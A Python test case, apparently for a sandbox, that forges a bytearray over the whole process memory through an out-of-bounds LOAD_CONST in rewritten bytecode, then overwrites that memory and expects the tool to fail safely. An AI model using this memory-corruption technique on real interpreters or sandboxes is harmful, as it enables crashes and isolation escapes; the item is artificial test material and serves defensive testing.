# A constant behind the last one is an object that the tool forged: an array of bytes over all of the guest's memory. It is filled with nonsense, the interpreter itself included.
# expect: tool_error or stack_limit
import opcode
import struct
import sys

word = struct.calcsize('P')
huge = (1 << 31) - 1
forged = struct.pack('6Pi', 1 << 20, id(bytearray), huge, huge, 0, 0, 0) + bytes(64)
pointer = struct.pack('P', id(forged) + bytes.__basicsize__ - 1)
constants = (1, 2)
first = id(constants) + tuple.__basicsize__
index = (id(pointer) + bytes.__basicsize__ - 1 - first) // word % (1 << 30)


def victim():
    return None


code = [opcode.opmap['RESUME'], 0]
for shift in (24, 16, 8):
    code += [opcode.opmap['EXTENDED_ARG'], index >> shift & 255]
code += [opcode.opmap['LOAD_CONST'], index & 255, opcode.opmap['RETURN_VALUE'], 0]
victim.__code__ = victim.__code__.replace(co_code=bytes(code), co_consts=constants)
everything = victim()
print(type(everything), len(everything))
for at in range(1024, 24 << 20, 4096):
    everything[at:at + 4096] = b'\xa5' * 4096
return 'still here'
